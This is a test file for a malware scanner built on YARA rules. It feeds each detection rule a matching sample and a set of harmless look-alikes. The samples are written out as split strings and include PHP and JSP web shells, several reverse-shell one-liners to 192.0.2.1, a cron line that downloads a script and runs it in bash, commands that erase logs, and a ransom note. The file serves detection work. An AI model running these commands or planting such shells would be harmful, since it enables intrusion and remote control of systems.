import { createHash } from 'node:crypto'
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { expect, test } from 'vitest'
import { compileIndicators } from '../../shared/ioc/matcher.ts'
import { readContent, shippedContentFolder } from '../../shared/node/content.ts'
import { eicar } from './testing/eicar.ts'
import { createYaraEngine, loadYaraAddon, type YaraEngine } from './yara-engine.ts'

const content = readContent([shippedContentFolder()])

function engineOf(sources = content.yaraSources): YaraEngine {
  const addon = loadYaraAddon()
  if (addon === null) throw new Error('no YARA-X addon for this machine')
  return createYaraEngine(addon, sources, 10_000)
}
const engine = engineOf()
const hits = (data: Buffer | string) => engine.scan(Buffer.from(data)).map(({ ruleId }) => ruleId)

/** Joins pieces with nothing, so that a sample stands whole in no file. */
const pieces = (...texts: string[]) => texts.join('')

/** An ELF program for x86-64 of one segment with the given flags, and its size padded to `sizeBytes`. */
function elf(options: {
  flags?: number
  sizeBytes?: number
  type?: number
  sections?: number
  text?: string
}): Buffer {
  const file = Buffer.alloc(Math.max(options.sizeBytes ?? 0, 0x78))
  file.write('\x7fELF\x02\x01\x01', 0, 'latin1')
  file.writeUInt16LE(options.type ?? 2, 0x10)
  file.writeUInt16LE(62, 0x12)
  file.writeUInt32LE(0x400078, 0x18)
  file.writeUInt32LE(0x40, 0x20)
  file.writeUInt16LE(0x38, 0x36)
  file.writeUInt16LE(1, 0x38)
  file.writeUInt16LE(options.sections ?? 0, 0x3c)
  file.writeUInt32LE(1, 0x40)
  file.writeUInt32LE(options.flags ?? 5, 0x44)
  file.writeUInt32LE(0x400000, 0x50)
  file.writeUInt32LE(0x1000, 0x60)
  file.writeUInt32LE(0x1000, 0x68)
  return Buffer.concat([file, Buffer.from(options.text ?? '')])
}

const samples: readonly (readonly [string, Buffer | string])[] = [
  ['cordon-yara-eicar', eicar()],
  ['cordon-yara-php-request-executed', pieces('<?php @ev', 'al($_PO', "ST['x']); ?>")],
  [
    'cordon-yara-php-request-executed',
    pieces('<?php echo shell_', 'exec( base64_decode($_GE', "T['c'])); ?>"),
  ],
  ['cordon-yara-php-layers-run', pieces('<?php ev', 'al(gzin', 'flate(base64_', "decode('abc'))); ?>")],
  [
    'cordon-yara-jsp-request-executed',
    pieces('<%@ page %><% Runtime.getRun', 'time().ex', 'ec(request.getPara', 'meter("c")); %>'),
  ],
  ['cordon-yara-script-reverse-shell', pieces('ba', 'sh -i >', '& /dev/t', 'cp/192.0.2.1/4444 0>&1')],
  [
    'cordon-yara-script-reverse-shell',
    pieces('rm /tmp/f;mkfi', 'fo /tmp/f;cat /tmp/f|/bin/s', 'h -i 2>&1|n', 'c 192.0.2.1 4444 >/tmp/f'),
  ],
  [
    'cordon-yara-script-reverse-shell',
    pieces(
      'import socket,subprocess,os;s=socket.soc',
      'ket();s.conn',
      'ect(("192.0.2.1",1));os.du',
      'p2(s.fileno(),0);subpro',
      'cess.call(["/bin/sh"])',
    ),
  ],
  ['cordon-yara-script-reverse-shell', pieces('n', 'c -e /bin/s', 'h 192.0.2.1 4444')],
  [
    'cordon-yara-script-decoded-into-shell',
    pieces('echo ', 'QUJD'.repeat(30), ' | base', '64 -d | ba', 'sh'),
  ],
  [
    'cordon-yara-script-cron-download',
    pieces('*/5 * * * * root cu', 'rl -fsSL http://192.0.2.1/x.sh | ba', 'sh\n'),
  ],
  ['cordon-yara-script-traces-removed', pieces('unset HIST', 'FILE\nrm -rf /var/l', 'og/wtmp\n')],
  [
    'cordon-yara-script-rivals-killed',
    pieces('pkill -f kdev', 'tmpfsi\npkill -f kins', 'ing\nkillall -9 xm', 'rig\n'),
  ],
  [
    'cordon-yara-ransom-note',
    pieces('All your fi', 'les have been encry', 'pted. Pay 1 bit', 'coin for the decryp', 'tion key.'),
  ],
  [
    'cordon-yara-miner-settings',
    pieces('{"po', 'ols": [{"url": "stra', 'tum+tcp://192.0.2.1:3333"}], "donate-', 'level": 1}'),
  ],
  [
    'cordon-yara-miner-program',
    elf({ text: pieces('stra', 'tum+tcp://', ' mining.sub', 'scribe Random', 'X donate-', 'level') }),
  ],
  ['cordon-yara-elf-packed-upx', elf({ text: pieces('UP', 'X!') })],
  ['cordon-yara-elf-tiny-no-sections', elf({ flags: 7 })],
  ['cordon-yara-elf-writable-code', elf({ flags: 7, sizeBytes: 8_192 })],
  [
    'cordon-yara-elf-preload-rootkit',
    elf({ type: 3, text: pieces('/etc/ld.so.pre', 'load dlsym readdir64 __xstat /proc/net/', 'tcp') }),
  ],
]

test.each(samples)('%s finds what it is for', (ruleId, sample) => {
  expect(hits(sample)).toContain(ruleId)
})

test('every shipped rule has a sample, and says what a person needs', () => {
  const text = content.yaraSources.map((source) => source.text).join('\n')
  const ids = [...text.matchAll(/\bid = "([^"]+)"/g)].map((match) => match[1])
  const rules = [...text.matchAll(/^rule /gm)].length
  expect(rules).toBeGreaterThanOrEqual(15)
  expect(new Set(ids).size).toBe(rules)
  expect(new Set(samples.map(([id]) => id))).toEqual(new Set(ids))
  for (const [, sample] of samples) {
    for (const hit of engine.scan(Buffer.from(sample))) {
      expect(hit.description).not.toBeNull()
      expect(hit.techniques[0]).toMatch(/^T[0-9]{4}(\.[0-9]{3})?$/)
      expect(hit.ruleName).not.toMatch(/^cordon_/)
    }
  }
})

test.each([
  ['text about the test file', Buffer.concat([Buffer.from('x'), eicar()])],
  ['a long file that begins like the test file', Buffer.concat([eicar(), Buffer.alloc(200, 0x20)])],
  ['a page that reads a request', '<?php $name = trim($_POST["name"]); echo htmlspecialchars($name); ?>'],
  ['a page that inflates', '<?php $text = gzinflate(base64_decode($stored)); echo $text; ?>'],
  ['a script that tests a port', 'timeout 1 bash -c "echo > /dev/tcp/192.0.2.1/22" && echo open'],
  ['a script that decodes to a file', `echo ${'QUJD'.repeat(30)} | base64 -d > /tmp/picture.png`],
  ['a crontab that fetches a file', '*/5 * * * * root curl -fsSL -o /srv/list http://192.0.2.1/list\n'],
  ['a script that rotates a log', 'gzip /var/log/app.log\n: > /var/log/app.log\nhistory -c\n'],
  ['a warning about ransom', 'If your files were encrypted, do not pay in bitcoin; call us instead.'],
  ['a usual program', elf({ flags: 5, sizeBytes: 8_192, sections: 12 })],
  ['nothing', ''],
])('%s is no finding', (_, data) => {
  expect(hits(data)).toEqual([])
})

test("neither Cordon's own sources nor the system's programs are findings", () => {
  const folders = [
    join(import.meta.dirname, '../../shared/content/yara'),
    join(import.meta.dirname, '../../shared/content/indicators'),
    import.meta.dirname,
    '/usr/bin',
    '/usr/sbin',
    '/usr/lib/x86_64-linux-gnu',
  ]
  let budgetBytes = 400 * 1024 ** 2
  let files = 0
  const found: string[] = []
  for (const folder of folders) {
    for (const entry of readdirSync(folder, { withFileTypes: true })) {
      const path = join(folder, entry.name)
      if (!entry.isFile() || statSync(path).size > 32 * 1024 ** 2 || budgetBytes < 0) continue
      const data = readFileSync(path)
      budgetBytes -= data.length
      files += 1
      found.push(...hits(data).map((ruleId) => `${path}: ${ruleId}`))
    }
  }
  expect(files).toBeGreaterThan(100)
  expect(found).toEqual([])
}, 120_000)

test('the shipped indicators load, and know the test file by its hash', () => {
  expect(content.problems).toEqual([])
  const matcher = compileIndicators(content.indicators, Date.now())
  const found = matcher.match({
    '@timestamp': new Date().toISOString(),
    'event.kind': 'event',
    'event.category': 'file',
    'event.type': 'info',
    'event.action': 'file-examined',
    'file.path': '/tmp/x',
    'file.hash.sha256': createHash('sha256').update(eicar()).digest('hex'),
  })
  expect(found.map(({ indicator }) => indicator.id)).toEqual(['cordon-test-eicar-sha256'])
  const isLoopback = content.indicators.filter(({ type }) => type === 'ipv4' || type === 'cidr')
  expect(isLoopback.every(({ value }) => value.startsWith('127.'))).toBe(true)
})

test('a bad rule or file of a user is named, and the rest of the set stands', () => {
  const folder = mkdtempSync(join(tmpdir(), 'cordon-content-'))
  try {
    mkdirSync(join(folder, 'yara'))
    mkdirSync(join(folder, 'indicators'))
    const good = (name: string) => `rule ${name} { strings: $a = "${name}-mark" condition: $a }\n`
    writeFileSync(join(folder, 'yara/a.yar'), `${good('one')}rule bad { condition: nothing }\n${good('two')}`)
    writeFileSync(join(folder, 'yara/b.yar'), 'rule broken { condition: {{{')
    writeFileSync(join(folder, 'yara/c.yara'), `include "/etc/passwd"\n${good('one')}`)
    writeFileSync(join(folder, 'yara/d.txt'), 'not read')
    mkdirSync(join(folder, 'yara/e.yar'))
    writeFileSync(join(folder, 'indicators/a.json'), '{"not": "a list"}')
    const own = readContent([folder, join(folder, 'missing')])
    expect(own.problems).toHaveLength(1)
    const set = engineOf(own.yaraSources)
    expect(set.scan(Buffer.from('one-mark two-mark')).map(({ ruleId }) => ruleId)).toEqual([
      'a.yar:one',
      'a.yar:two',
      'c.yara:one',
    ])
    for (const name of ['a.yar', 'b.yar', 'c.yara']) {
      expect(set.problems.some((problem) => problem.startsWith(`${name}: `))).toBe(true)
    }
  } finally {
    rmSync(folder, { recursive: true })
  }
})
